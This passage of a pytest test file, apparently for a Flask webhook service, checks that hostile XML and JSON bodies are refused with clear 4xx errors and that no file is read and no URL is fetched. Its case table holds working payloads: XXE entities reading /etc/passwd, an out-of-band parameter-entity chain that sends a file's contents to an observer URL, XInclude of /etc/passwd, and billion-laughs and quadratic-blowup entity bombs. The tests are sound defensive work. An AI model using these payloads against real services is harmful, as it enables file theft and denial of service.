"""Every bad input a sender can make gets a clear 4xx, in bounded memory, and the service
never answers 5xx to anything a sender can put in a request.

Through Flask's client (SQLite, and PostgreSQL when ``CIRELAY_TEST_DATABASE_URL`` is set):
a table of hostile bodies, each asserting the exact status and error code, what was (not)
written, and that no file was read and nothing was fetched. Then memory bounds under
``tracemalloc``, the bodies that make many schema violations (run in a child process with
a CPU guard, because they used to take hours), and a few bodies against a real
``cirelay serve``.

No wall-clock assertions here: speed is measured in benchmarks. The CPU guard of the child
process only turns a hang into a failure.
"""

from __future__ import annotations

import io
import json
import os
import re
import socket
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests
from flask.testing import FlaskClient
from lxml import etree
from sqlalchemy.engine import Engine
from werkzeug.test import TestResponse

from app import store
from app.config import Settings
from tests.conftest import (
    CORPUS,
    SAMPLE_JOB_ID,
    SUCCESS_XML,
    Clock,
    counts,
    make_job,
    queue_path,
)
from tests.hostile import MARKER, FileSentinel, LoopbackServer, VirtualBody, xml_to_wire_json

ROOT = Path(__file__).resolve().parent.parent
CAP = Settings().max_body_bytes
DEPTH = Settings().max_depth
MB = 1 << 20
XML = "application/xml"
JSON = "application/json"
#: tracemalloc peak allowed for one hostile request (the body itself is not counted)
MEMORY_BOUND = 64 * MB
#: what /etc/passwd starts with; must never appear in an answer
PASSWD_LINE = "root:x:0:0"

VALID = SUCCESS_XML
VALID_JSON = json.dumps(
    xml_to_wire_json(etree.fromstring(VALID.encode(), etree.XMLParser(remove_blank_text=True)))
)
TABLES = ("jobs", "notifications", "events", "quarantined_notifications")


# --- observers: the loopback server and the file sentinel ---------------------------------


@dataclass
class Observers:
    """Where a hostile body may point: ``url`` (a loopback HTTP server) and ``file_url`` (a
    named pipe). Neither may be touched."""

    server: LoopbackServer
    sentinel: FileSentinel
    seen_before: int

    @property
    def url(self) -> str:
        return self.server.url

    @property
    def file_url(self) -> str:
        return self.sentinel.url

    def assert_untouched(self) -> None:
        self.sentinel.close()
        assert not self.sentinel.opened.is_set(), "the service opened a file named by the body"
        fetched = self.server.requests[self.seen_before :]
        assert fetched == [], f"the service fetched {fetched}"


@pytest.fixture(scope="module")
def loopback() -> Iterator[LoopbackServer]:
    server = LoopbackServer()
    yield server
    server.close()


@pytest.fixture
def observers(loopback: LoopbackServer, tmp_path: Path) -> Iterator[Observers]:
    sentinel = FileSentinel(tmp_path / "secret.txt")
    watched = Observers(loopback, sentinel, len(loopback.requests))
    yield watched
    sentinel.close()


@pytest.fixture
def job_path(engine: Engine, clock: Clock) -> str:
    """The callback URL of a job CI knows as the sample's JobId, as submission left it."""
    return make_job(engine, "job_01", clock.now, ci_id=SAMPLE_JOB_ID)


# --- building hostile bodies --------------------------------------------------------------

Body = bytes | VirtualBody


def valid_with(message: str = "", **replace: str) -> str:
    """The valid sample with ``message`` in <Message> and any text replaced."""
    text = VALID.replace("<Message/>", f"<Message>{message}</Message>")
    for old, new in replace.items():
        assert old in text
        text = text.replace(old, new)
    return text


def with_doctype(declaration: str, message: str = "") -> bytes:
    """The valid sample behind ``<!DOCTYPE Response{declaration}>``, ``message`` (an entity
    reference, say) in <Message>: were the DOCTYPE let through, it would be accepted."""
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE Response{declaration}>\n{valid_with(message)}'.encode()
    )


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return with_doctype(f" [{''.join(entities)}]", "&lol9;")


def quadratic_blowup(references: int | None = None) -> bytes:
    """One 50 KB entity referenced as often as fits under the cap (~20 GB expanded)."""
    head = with_doctype(f' [<!ENTITY a "{"a" * 50_000}">]', "@@")
    count = references if references is not None else (CAP - len(head) - 16) // 3
    body = head.replace(b"@@", b"&a;" * count)
    assert len(body) <= CAP
    return body


def deep_xml(depth: int) -> bytes:
    """``depth`` elements nested in each other (``Response`` counts as one)."""
    inner = depth - 1
    return b"<Response>" + b"<a>" * inner + b"</a>" * inner + b"</Response>"


def deep_json(depth: int, kind: str = "object") -> bytes:
    inner = depth - 1
    if kind == "array":
        return b'{"a":' + b"[" * inner + b"]" * inner + b"}"
    return b'{"a":' * depth + b'"x"' + b"}" * depth


def first_valid(document: str) -> bytes:
    return sorted((CORPUS / document / "valid").glob("*.xml"))[0].read_bytes()


@dataclass(frozen=True)
class Hostile:
    """One hostile request and the answer it must get."""

    build: Callable[[Observers], Body]
    content_type: str | None
    status: int
    error: str
    #: regex (case-insensitive) the error message / quarantined reasons must match (400s)
    reason: str = ""
    #: send without Content-Length, as ``Transfer-Encoding: chunked``
    chunked: bool = False


def case(
    id: str,
    build: Callable[[Observers], Body],
    content_type: str | None,
    status: int,
    error: str,
    reason: str = "",
    *,
    chunked: bool = False,
) -> Any:
    return pytest.param(Hostile(build, content_type, status, error, reason, chunked), id=id)


MALFORMED = "malformed_notification"
INVALID = "invalid_notification"
TOO_LARGE = "payload_too_large"
UNSUPPORTED = "unsupported_media_type"
DTD = r"DTD|entit|PEReference"
UTF8 = r"UTF-8"
NOT_IN_SCHEMA = r"not an element of the schema"
DATE = r"CreationTime|date|time|year|day|range"


def _const(body: Body) -> Callable[[Observers], Body]:
    return lambda _: body


def _utf(encoding: str, text: str = VALID, declare: bool = False) -> Callable[[Observers], Body]:
    head = f'<?xml version="1.0" encoding="{encoding.upper()}"?>\n' if declare else ""
    return _const((head + text).encode(encoding))


XML_CASES = [
    # DTDs, entities, external references: refused before anything is resolved or fetched
    case(
        "xxe-file-etc-passwd",
        _const(with_doctype(' [<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;")),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "xxe-file-sentinel",
        lambda o: with_doctype(f' [<!ENTITY x SYSTEM "{o.file_url}">]', "&x;"),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "xxe-http-external-entity",
        lambda o: with_doctype(f' [<!ENTITY x SYSTEM "{o.url}/entity">]', "&x;"),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "xxe-http-external-dtd",
        lambda o: with_doctype(f' SYSTEM "{o.url}/external.dtd"', "&leaked;"),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "xxe-http-public-dtd",
        lambda o: with_doctype(f' PUBLIC "-//cirelay//hostile//EN" "{o.url}/public.dtd"'),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "xxe-file-external-dtd",
        lambda o: with_doctype(f' SYSTEM "{o.file_url}"', "&leaked;"),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "xxe-unparsed-entity",
        lambda o: with_doctype(
            f' [<!NOTATION n SYSTEM "{o.url}/n"><!ENTITY u SYSTEM "{o.url}/u" NDATA n>]'
        ),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "parameter-entity-http",
        lambda o: with_doctype(f' [<!ENTITY % p SYSTEM "{o.url}/p.dtd"> %p;]', "&leaked;"),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "parameter-entity-file",
        lambda o: with_doctype(f' [<!ENTITY % p SYSTEM "{o.file_url}"> %p;]'),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "parameter-entity-out-of-band-exfiltration",
        lambda o: with_doctype(
            f' [<!ENTITY % file SYSTEM "{o.file_url}">'
            f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{o.url}/?leak=%file;'>\">"
            "%eval; %exfil;]"
        ),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case(
        "internal-entity-only",
        _const(with_doctype(' [<!ENTITY m "harmless">]', "&m;")),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case("doctype-without-declarations", _const(with_doctype("")), XML, 400, MALFORMED, DTD),
    case(
        "html5-doctype",
        _const(b"<!DOCTYPE html><html><body>hi</body></html>"),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    case("billion-laughs", _const(billion_laughs()), XML, 400, MALFORMED, DTD),
    case("quadratic-blowup", _const(quadratic_blowup()), XML, 400, MALFORMED, DTD),
    case(
        "quadratic-blowup-few-references",
        _const(quadratic_blowup(references=20)),
        XML,
        400,
        MALFORMED,
        DTD,
    ),
    # depth: libxml2's own limit (256) and ours (max_depth)
    # (20,000 elements too: the element cap, cheaper to check, may say so first)
    case(
        "xml-nesting-20000-deep",
        _const(deep_xml(20_000)),
        XML,
        400,
        MALFORMED,
        r"depth|deep|elements",
    ),
    case("xml-nesting-100-deep", _const(deep_xml(100)), XML, 400, MALFORMED, r"deeper than 32"),
    case(
        "xml-nesting-one-over-the-cap",
        _const(deep_xml(DEPTH + 1)),
        XML,
        400,
        MALFORMED,
        rf"deeper than {DEPTH}",
    ),
    # encodings: UTF-8 only
    case(
        "invalid-utf8-byte",
        _const(valid_with("@").encode().replace(b"@", b"\xff")),
        XML,
        400,
        MALFORMED,
        UTF8,
    ),
    case(
        "overlong-utf8",
        _const(valid_with("@").encode().replace(b"@", b"\xc0\xbc")),
        XML,
        400,
        MALFORMED,
        UTF8,
    ),
    case(
        "utf8-encoded-surrogate",
        _const(valid_with("@").encode().replace(b"@", b"\xed\xa0\x80")),
        XML,
        400,
        MALFORMED,
        UTF8,
    ),
    case(
        "truncated-utf8-sequence", _const(VALID.encode() + b"\xe2\x82"), XML, 400, MALFORMED, UTF8
    ),
    case("latin1-bytes", _const(valid_with("café").encode("latin-1")), XML, 400, MALFORMED, UTF8),
    case("utf16-with-bom", _utf("utf-16"), XML, 400, MALFORMED, UTF8),
    case(
        "utf16-be-with-bom",
        _const(b"\xfe\xff" + VALID.encode("utf-16-be")),
        XML,
        400,
        MALFORMED,
        UTF8,
    ),
    case("utf16-le-without-bom", _utf("utf-16-le"), XML, 400, MALFORMED, r"UTF-8|0x0"),
    case(
        "utf16-le-declared-without-bom",
        _utf("utf-16-le", declare=True),
        XML,
        400,
        MALFORMED,
        r"UTF-8|encoding",
    ),
    case(
        "utf16-be-declared-without-bom",
        _utf("utf-16-be", declare=True),
        XML,
        400,
        MALFORMED,
        r"UTF-8|encoding",
    ),
    case("utf32-le-without-bom", _utf("utf-32-le"), XML, 400, MALFORMED, r"UTF-8|encoding"),
    case("utf32-be-without-bom", _utf("utf-32-be"), XML, 400, MALFORMED, r"UTF-8|encoding"),
    case(
        "nul-byte",
        _const(valid_with("@").encode().replace(b"@", b"\x00")),
        XML,
        400,
        MALFORMED,
        r"0x0|NUL",
    ),
    case("nul-character-reference", _const(valid_with("&#0;").encode()), XML, 400, MALFORMED),
    case(
        "control-character",
        _const(valid_with("\x01").encode()),
        XML,
        400,
        MALFORMED,
        r"Char value 1",
    ),
    # well-formedness
    case("empty-body", _const(b""), XML, 400, MALFORMED, r"empty"),
    case("whitespace-body", _const(b" \r\n\t "), XML, 400, MALFORMED),
    case("truncated-document", _const(VALID.encode()[:-40]), XML, 400, MALFORMED),
    case("two-roots", _const((VALID + VALID).encode()), XML, 400, MALFORMED, r"Extra content"),
    case("cdata-end-in-text", _const(valid_with("]]>").encode()), XML, 400, MALFORMED, r"]]>"),
    case(
        "undefined-entity-reference",
        _const(valid_with("&leaked;").encode()),
        XML,
        400,
        MALFORMED,
        r"leaked",
    ),
    case("json-body-as-xml", _const(VALID_JSON.encode()), XML, 400, MALFORMED),
    # well-formed, wrong document
    case(
        "wrong-root-request",
        _const(first_valid("create_request")),
        XML,
        400,
        INVALID,
        NOT_IN_SCHEMA,
    ),
    case("wrong-root-error", _const(first_valid("error")), XML, 400, INVALID, NOT_IN_SCHEMA),
    case(
        "wrong-root-html",
        _const(b"<html><body><p>hello</p></body></html>"),
        XML,
        400,
        INVALID,
        NOT_IN_SCHEMA,
    ),
    case(
        "namespaced-response-root",
        _const(VALID.replace("<Response>", '<Response xmlns="urn:evil">', 1).encode()),
        XML,
        400,
        INVALID,
        NOT_IN_SCHEMA,
    ),
    case(
        "attribute-on-root",
        _const(VALID.replace("<Response>", '<Response evil="1">', 1).encode()),
        XML,
        400,
        INVALID,
        r"attribute",
    ),
    case(
        "xinclude-file",
        lambda o: VALID.replace(
            "<Response>",
            '<Response xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<xi:include href="{o.file_url}" parse="text"/>',
            1,
        ).encode(),
        XML,
        400,
        INVALID,
        r"include",
    ),
    case(
        "xinclude-http",
        lambda o: valid_with(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{o.url}/x"/>'
        ).encode(),
        XML,
        400,
        INVALID,
        r"Message.*child elements",
    ),
    case(
        "xinclude-etc-passwd",
        _const(
            valid_with(
                '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                'href="file:///etc/passwd" parse="text"/>'
            ).encode()
        ),
        XML,
        400,
        INVALID,
        r"Message.*child elements",
    ),
    # pass the XSD patterns, but are no dates
    case(
        "date-february-30",
        _const(VALID.replace("2024-11-18T21:03:44+0800", "2024-02-30T21:03:44+0800").encode()),
        XML,
        400,
        INVALID,
        DATE,
    ),
    case(
        "date-february-29-non-leap-year",
        _const(VALID.replace("2024-11-18T21:03:44+0800", "2023-02-29T21:03:44+0800").encode()),
        XML,
        400,
        INVALID,
        DATE,
    ),
    case(
        "date-year-0000",
        _const(VALID.replace("2024-11-18T21:03:44+0800", "0000-01-01T00:00:00+0800").encode()),
        XML,
        400,
        INVALID,
        DATE,
    ),
    case(
        "date-year-0001-east-of-utc",
        _const(VALID.replace("2024-11-18T21:03:44+0800", "0001-01-01T00:00:00+0800").encode()),
        XML,
        400,
        INVALID,
        DATE,
    ),
    case(
        "date-year-9999-west-of-utc",
        _const(VALID.replace("2024-11-18T21:05:02+0800", "9999-12-31T23:59:59-0100").encode()),
        XML,
        400,
        INVALID,
        DATE,
    ),
]

JSON_CASES = [
    case(
        "json-nesting-20000-deep-objects",
        _const(deep_json(20_000)),
        JSON,
        400,
        MALFORMED,
        r"deeper",
    ),
    case(
        "json-nesting-20000-deep-arrays",
        _const(deep_json(20_000, "array")),
        JSON,
        400,
        MALFORMED,
        r"deeper",
    ),
    case("json-nesting-100-deep", _const(deep_json(100)), JSON, 400, MALFORMED, r"deeper than 32"),
    case(
        "json-duplicate-keys",
        _const(b'{"EventName": "TaskFinish", "EventName": "TaskFinish"}'),
        JSON,
        400,
        MALFORMED,
        r"duplicate key",
    ),
    case(
        "json-duplicate-keys-nested",
        _const(
            VALID_JSON.replace(
                '"State": "Success"', '"State": "Failed", "State": "Success"'
            ).encode()
        ),
        JSON,
        400,
        MALFORMED,
        r"duplicate key 'State'",
    ),
    case(
        "json-top-level-array", _const(f"[{VALID_JSON}]".encode()), JSON, 400, MALFORMED, r"object"
    ),
    case("json-top-level-string", _const(b'"TaskFinish"'), JSON, 400, MALFORMED, r"object"),
    case("json-top-level-number", _const(b"42"), JSON, 400, MALFORMED, r"object"),
    case("json-top-level-null", _const(b"null"), JSON, 400, MALFORMED, r"object"),
    case("json-top-level-true", _const(b"true"), JSON, 400, MALFORMED, r"object"),
    case("json-nan", _const(b'{"EventName": NaN}'), JSON, 400, MALFORMED, r"NaN"),
    case("json-infinity", _const(b'{"EventName": Infinity}'), JSON, 400, MALFORMED, r"Infinity"),
    case(
        "json-minus-infinity",
        _const(b'{"EventName": -Infinity}'),
        JSON,
        400,
        MALFORMED,
        r"Infinity",
    ),
    case("json-key-with-space", _const(b'{"a b": "x"}'), JSON, 400, MALFORMED, r"element name"),
    case(
        "json-key-starting-with-digit",
        _const(b'{"1x": "x"}'),
        JSON,
        400,
        MALFORMED,
        r"element name",
    ),
    case("json-key-empty", _const(b'{"": "x"}'), JSON, 400, MALFORMED, r"element name"),
    case(
        "json-key-with-colon", _const(b'{"xi:include": "x"}'), JSON, 400, MALFORMED, r"element name"
    ),
    case(
        "json-key-with-angle-bracket",
        _const(b'{"a><b": "x"}'),
        JSON,
        400,
        MALFORMED,
        r"element name",
    ),
    case(
        "json-string-control-character",
        _const(VALID_JSON.replace('"TaskFinish"', '"Task\\u0001Finish"').encode()),
        JSON,
        400,
        MALFORMED,
        r"control",
    ),
    case(
        "json-string-nul",
        _const(VALID_JSON.replace('"TaskFinish"', '"Task\\u0000Finish"').encode()),
        JSON,
        400,
        MALFORMED,
        r"NULL|control",
    ),
    case(
        "json-string-lone-surrogate",
        _const(VALID_JSON.replace('"TaskFinish"', '"\\ud800"').encode()),
        JSON,
        400,
        MALFORMED,
        r"surrogate",
    ),
    case(
        "json-key-lone-surrogate",
        _const(b'{"\\udc00": "x"}'),
        JSON,
        400,
        MALFORMED,
        r"element name",
    ),
    case(
        "json-nested-arrays",
        _const(b'{"JobsDetail": [[{}]]}'),
        JSON,
        400,
        MALFORMED,
        r"nested arrays",
    ),
    case(
        "json-invalid-utf8",
        _const(VALID_JSON.replace("TaskFinish", "@").encode().replace(b"@", b"\xff\xfe")),
        JSON,
        400,
        MALFORMED,
        UTF8,
    ),
    case("json-utf16-with-bom", _utf("utf-16", VALID_JSON), JSON, 400, MALFORMED, UTF8),
    case("json-utf16-le-without-bom", _utf("utf-16-le", VALID_JSON), JSON, 400, MALFORMED, UTF8),
    case("json-utf16-be-without-bom", _utf("utf-16-be", VALID_JSON), JSON, 400, MALFORMED, UTF8),
    case("json-utf32-le-without-bom", _utf("utf-32-le", VALID_JSON), JSON, 400, MALFORMED, UTF8),
    case(
        "json-huge-integer",
        _const(b'{"EventName": ' + b"9" * 5000 + b"}"),
        JSON,
        400,
        MALFORMED,
        r"digits",
    ),
    case(
        "json-trailing-garbage",
        _const(VALID_JSON.encode() + b"}"),
        JSON,
        400,
        MALFORMED,
        r"Extra data",
    ),
    case(
        "json-two-documents", _const((VALID_JSON * 2).encode()), JSON, 400, MALFORMED, r"Extra data"
    ),
    case("json-single-quotes", _const(b"{'EventName': 'TaskFinish'}"), JSON, 400, MALFORMED),
    case("json-comment", _const(b'{/* hi */"EventName": "TaskFinish"}'), JSON, 400, MALFORMED),
    case("json-empty-body", _const(b""), JSON, 400, MALFORMED),
    case("json-whitespace-body", _const(b" \n\t "), JSON, 400, MALFORMED),
    case("xml-body-as-json", _const(VALID.encode()), JSON, 400, MALFORMED),
    case(
        "json-wrong-shape",
        _const(b'{"Response": {"JobsDetail": {}}}'),
        JSON,
        400,
        INVALID,
        r"Response",
    ),
    case(
        "json-date-february-30",
        _const(VALID_JSON.replace("2024-11-18T21:03:44+0800", "2024-02-30T21:03:44+0800").encode()),
        JSON,
        400,
        INVALID,
        DATE,
    ),
]


def _big(prefix: str | bytes, size: int, filler: bytes = b" ") -> Callable[[Observers], Body]:
    data = prefix.encode() if isinstance(prefix, str) else prefix
    return lambda _: VirtualBody(data, size, filler)


SIZE_CASES = [
    case("body-30mb-content-length", _big(VALID, 30 * MB), XML, 413, TOO_LARGE),
    case("body-30mb-chunked", _big(VALID, 30 * MB), XML, 413, TOO_LARGE, chunked=True),
    case("body-30mb-garbage-chunked", _big(b"<", 30 * MB, b"<"), XML, 413, TOO_LARGE, chunked=True),
    case("json-30mb-content-length", _big(VALID_JSON, 30 * MB), JSON, 413, TOO_LARGE),
    case("json-30mb-chunked", _big(VALID_JSON, 30 * MB), JSON, 413, TOO_LARGE, chunked=True),
    case("body-cap-plus-one", _big(VALID, CAP + 1), XML, 413, TOO_LARGE),
    case("body-cap-plus-one-chunked", _big(VALID, CAP + 1), XML, 413, TOO_LARGE, chunked=True),
]

MEDIA_TYPE_CASES = [
    case("content-type-text-plain", _const(VALID.encode()), "text/plain", 415, UNSUPPORTED),
    case(
        "content-type-octet-stream",
        _const(VALID.encode()),
        "application/octet-stream",
        415,
        UNSUPPORTED,
    ),
    case("content-type-missing", _const(VALID.encode()), None, 415, UNSUPPORTED),
    case("content-type-empty", _const(VALID.encode()), "", 415, UNSUPPORTED),
    case(
        "content-type-form",
        _const(b"EventName=TaskFinish"),
        "application/x-www-form-urlencoded",
        415,
        UNSUPPORTED,
    ),
    case(
        "content-type-multipart",
        _const(b"--b\r\n\r\nx\r\n--b--\r\n"),
        "multipart/form-data; boundary=b",
        415,
        UNSUPPORTED,
    ),
    case("content-type-xhtml", _const(VALID.encode()), "application/xhtml+xml", 415, UNSUPPORTED),
    case(
        "content-type-json-suffix",
        _const(VALID_JSON.encode()),
        "application/problem+json",
        415,
        UNSUPPORTED,
    ),
    case("content-type-html", _const(b"<html/>"), "text/html", 415, UNSUPPORTED),
    case(
        "content-type-text-plain-30mb",
        _big(VALID, 30 * MB),
        "text/plain",
        415,
        UNSUPPORTED,
    ),
]

CASES = XML_CASES + JSON_CASES + SIZE_CASES + MEDIA_TYPE_CASES
BY_ID = {p.id: p.values[0] for p in CASES}


# --- sending --------------------------------------------------------------------------------


def send(
    client: FlaskClient, path: str, body: Body, content_type: str | None, *, chunked: bool = False
) -> TestResponse:
    """POST ``body``; ``chunked`` sends it with no Content-Length, as a WSGI server passes a
    chunked request on (``wsgi.input_terminated``)."""
    headers: dict[str, str] = {}
    if content_type is not None:
        headers["Content-Type"] = content_type
    if chunked:
        headers["Transfer-Encoding"] = "chunked"
        stream = body if isinstance(body, VirtualBody) else io.BytesIO(body)
        return client.post(
            path,
            input_stream=stream,
            headers=headers,
            environ_overrides={"wsgi.input_terminated": True},
        )
    if isinstance(body, VirtualBody):
        return client.post(path, input_stream=body, headers=headers)
    return client.post(path, data=body, headers=headers)


def table_counts(engine: Engine) -> dict[str, int]:
    found = counts(engine)
    return {name: found[name] for name in TABLES}


def assert_no_leak(response: TestResponse) -> None:
    text = response.get_data(as_text=True)
    assert PASSWD_LINE not in text
    assert MARKER not in text


def assert_answer(response: TestResponse, hostile: Hostile) -> None:
    assert response.status_code == hostile.status, response.get_data()[:2000]
    assert response.is_json, response.get_data()[:2000]
    assert response.json is not None
    assert response.json["error"] == hostile.error, response.json
    if hostile.reason:
        said = json.dumps([response.json["message"], response.json["details"]])
        assert re.search(hostile.reason, said, re.IGNORECASE), said
    assert_no_leak(response)


# --- the table ------------------------------------------------------------------------------


@pytest.mark.parametrize("hostile", CASES)
def test_hostile_body_gets_a_clear_4xx_and_touches_nothing(
    client: FlaskClient, engine: Engine, job_path: str, observers: Observers, hostile: Hostile
) -> None:
    body = hostile.build(observers)

    response = send(client, job_path, body, hostile.content_type, chunked=hostile.chunked)

    assert_answer(response, hostile)
    observers.assert_untouched()
    with engine.connect() as conn:
        job = store.get_job(conn, "job_01")
        quarantined = store.list_quarantined(conn)
        events = store.list_events(conn)
    assert job is not None and job.state == "Submitted"
    if hostile.status != 400:
        assert table_counts(engine) == {
            "jobs": 1,
            "notifications": 0,
            "events": 0,
            "quarantined_notifications": 0,
        }
        return
    assert table_counts(engine) == {
        "jobs": 1,
        "notifications": 0,
        "events": 1,
        "quarantined_notifications": 1,
    }
    (item,) = quarantined
    assert item.job_id == "job_01"
    assert item.source == "callback"
    assert item.error == ("malformed" if hostile.error == MALFORMED else "schema_violation")
    if isinstance(body, bytes):
        assert item.body == body
    reasons = json.dumps(item.reasons)
    assert item.reasons and all(r.get("reason") for r in item.reasons)
    if hostile.reason:
        assert re.search(hostile.reason, reasons, re.IGNORECASE), reasons
    assert PASSWD_LINE not in reasons and MARKER not in reasons
    assert [e.type for e in events] == ["com.cirelay.notification.quarantined"]


@pytest.mark.parametrize(
    "hostile_id",
    ["xxe-file-etc-passwd", "billion-laughs", "json-duplicate-keys", "body-30mb-chunked"],
)
def test_queue_url_answers_the_same_and_creates_no_job(
    client: FlaskClient, engine: Engine, observers: Observers, hostile_id: str
) -> None:
    hostile = BY_ID[hostile_id]
    response = send(
        client,
        queue_path(),
        hostile.build(observers),
        hostile.content_type,
        chunked=hostile.chunked,
    )
    assert_answer(response, hostile)
    observers.assert_untouched()
    found = table_counts(engine)
    assert found["jobs"] == found["notifications"] == 0
    assert found["quarantined_notifications"] == (1 if hostile.status == 400 else 0)
    if hostile.status == 400:
        with engine.connect() as conn:
            (item,) = store.list_quarantined(conn)
        assert item.job_id is None and item.source == "queue"


@pytest.mark.parametrize(
    "hostile_id",
    ["xxe-file-etc-passwd", "xml-nesting-20000-deep", "body-30mb-content-length", "json-nan"],
)
def test_hostile_body_to_a_wrong_token_is_404_and_stores_nothing(
    client: FlaskClient, engine: Engine, job_path: str, observers: Observers, hostile_id: str
) -> None:
    hostile = BY_ID[hostile_id]
    wrong = job_path.rsplit("/", 1)[0] + "/not-the-token"
    response = send(client, wrong, hostile.build(observers), hostile.content_type)
    assert response.status_code == 404
    assert response.json == {"error": "not_found", "message": "no such callback", "details": []}
    observers.assert_untouched()
    assert table_counts(engine) == {
        "jobs": 1,
        "notifications": 0,
        "events": 0,
        "quarantined_notifications": 0,
    }


# --- what is accepted: the BOM, processing instructions, schema hints, exactly the cap ----


@pytest.mark.parametrize("wire", ["xml", "json"])
def test_utf8_bom_is_accepted_and_is_the_same_notification(
    client: FlaskClient, engine: Engine, job_path: str, wire: str
) -> None:
    """Decision: a UTF-8 byte order mark is allowed (XML 1.0 §4.3.3 and RFC 8259 §8.1 let a
    parser ignore it); the document behind it is what counts, so the BOM does not change the
    digest: the same notification with and without it is a duplicate."""
    body, content_type = (VALID, XML) if wire == "xml" else (VALID_JSON, JSON)
    with_bom = client.post(
        job_path, data=b"\xef\xbb\xbf" + body.encode(), content_type=content_type
    )
    without = client.post(job_path, data=body.encode(), content_type=content_type)

    assert with_bom.status_code == 200, with_bom.get_data()
    assert with_bom.json is not None and without.json is not None
    assert with_bom.json["results"][0]["outcome"] == "accepted"
    assert without.json["results"][0]["outcome"] == "duplicate"
    assert table_counts(engine)["notifications"] == 1


@pytest.mark.parametrize("wire", ["xml", "json"])
def test_two_boms_are_malformed(client: FlaskClient, job_path: str, wire: str) -> None:
    body, content_type = (VALID, XML) if wire == "xml" else (VALID_JSON, JSON)
    response = client.post(
        job_path, data=b"\xef\xbb\xbf" * 2 + body.encode(), content_type=content_type
    )
    assert response.status_code == 400
    assert response.json is not None and response.json["error"] == MALFORMED


def test_processing_instructions_are_dropped_and_nothing_is_fetched(
    client: FlaskClient, engine: Engine, job_path: str, observers: Observers
) -> None:
    body = (
        f'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="{observers.url}/s.xsl"?>\n'
        + VALID.replace("<Message/>", f'<Message/><?evil href="{observers.file_url}"?>')
    )
    response = client.post(job_path, data=body.encode(), content_type=XML)
    assert response.status_code == 200, response.get_data()
    observers.assert_untouched()
    plain = client.post(job_path, data=VALID.encode(), content_type=XML)
    assert plain.json is not None and plain.json["results"][0]["outcome"] == "duplicate"


@pytest.mark.parametrize(
    "attributes",
    [
        'xsi:noNamespaceSchemaLocation="{url}/evil.xsd"',
        'xsi:schemaLocation="urn:evil {url}/evil.xsd"',
    ],
    ids=["no-namespace-schema-location", "schema-location"],
)
def test_schema_location_hints_are_never_fetched(
    client: FlaskClient, job_path: str, observers: Observers, attributes: str
) -> None:
    root = (
        '<Response xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        + attributes.format(url=observers.url)
        + ">"
    )
    response = client.post(job_path, data=VALID.replace("<Response>", root, 1), content_type=XML)
    # accepted today (XSD allows xsi:* attributes everywhere); the point is: never fetched
    assert response.status_code in (200, 400), response.get_data()
    observers.assert_untouched()


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
def test_body_of_exactly_the_cap_is_read_whole(
    client: FlaskClient, engine: Engine, job_path: str, chunked: bool
) -> None:
    body = VirtualBody(VALID.encode(), CAP)
    response = send(client, job_path, body, XML, chunked=chunked)
    assert response.status_code == 200, response.get_data()[:500]
    with engine.connect() as conn:
        (note,) = store.list_notifications(conn, "job_01")
    assert note.state == "Success"


# --- bounded memory -------------------------------------------------------------------------

WORST = [
    "billion-laughs",
    "quadratic-blowup",
    "xml-nesting-20000-deep",
    "json-nesting-20000-deep-objects",
    "json-nesting-20000-deep-arrays",
    "body-30mb-content-length",
    "body-30mb-chunked",
    "body-30mb-garbage-chunked",
]


@pytest.mark.parametrize("hostile_id", WORST)
def test_worst_bodies_stay_within_a_memory_bound(
    client: FlaskClient, job_path: str, observers: Observers, hostile_id: str
) -> None:
    hostile = BY_ID[hostile_id]
    body = hostile.build(observers)
    client.post(job_path, data=b"<warm-up/>", content_type=XML)  # first-request set-up

    tracemalloc.start()
    try:
        response = send(client, job_path, body, hostile.content_type, chunked=hostile.chunked)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert peak < MEMORY_BOUND, f"peak {peak / MB:.1f} MiB"
    assert response.status_code == hostile.status, response.get_data()[:500]


# --- bodies that make many schema violations (isolated: a child process, a CPU guard) ------

#: CPU seconds one request may use in the child before it is killed as a hang
CPU_GUARD = 20

_CHILD = r"""
import json, resource, sys, tracemalloc
resource.setrlimit(resource.RLIMIT_CPU, (int(sys.argv[4]), int(sys.argv[4]) + 5))
from prometheus_client import CollectorRegistry
from app import build_services, create_app, store
from app.config import Settings
from app.migrations import upgrade
from tests.conftest import API_KEY, CALLBACK_KEYS, QUEUE_SECRET, counts, queue_path

body_path, content_type, db_path = sys.argv[1:4]
engine = store.create_engine(f"sqlite:///{db_path}")
upgrade(engine)
settings = Settings(database_url=f"sqlite:///{db_path}", api_keys=(API_KEY,),
                    callback_keys=CALLBACK_KEYS, queue_callback_secrets=(QUEUE_SECRET,))
app = create_app(services=build_services(settings, registry=CollectorRegistry(), engine=engine))
client = app.test_client()
client.post(queue_path(), data=b"<warm-up/>", content_type="application/xml")
with open(body_path, "rb") as f:
    body = f.read()
before = counts(engine)
rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
tracemalloc.start()
response = client.post(queue_path(), data=body, content_type=content_type)
